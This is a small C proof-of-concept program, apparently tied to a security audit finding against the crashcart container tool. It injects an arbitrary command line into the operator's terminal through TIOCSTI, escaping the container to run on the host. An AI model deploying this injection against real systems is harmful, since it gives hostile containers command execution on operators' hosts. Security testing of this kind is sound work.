/* inj: a hostile container's program (finding A1). Pushes a command line
 * into the terminal it was given, byte by byte (TIOCSTI), on each of its
 * stdin, stdout and stderr, for whoever reads that terminal next: on the
 * operator's own terminal, the operator's host shell after crashcart
 * returns. Reports on stderr what the kernel said. Static: the container has
 * no libc. usage: inj LINE */
#include <errno.h>
#include <stdio.h>
#include <string.h>
#include <sys/ioctl.h>

int main(int argc, char **argv)
{
	const char *line = argc > 1 ? argv[1] : "echo INJECTED\n";
	for (int fd = 0; fd < 3; fd++) {
		int ok = 0, err = 0;
		for (const char *p = line; *p; p++) {
			if (ioctl(fd, TIOCSTI, p) == 0)
				ok++;
			else
				err = errno;
		}
		fprintf(stderr, "inj: fd %d: %d bytes pushed%s%s\n", fd, ok, err ? ", " : "", err ? strerror(err) : "");
	}
	return 0;
}
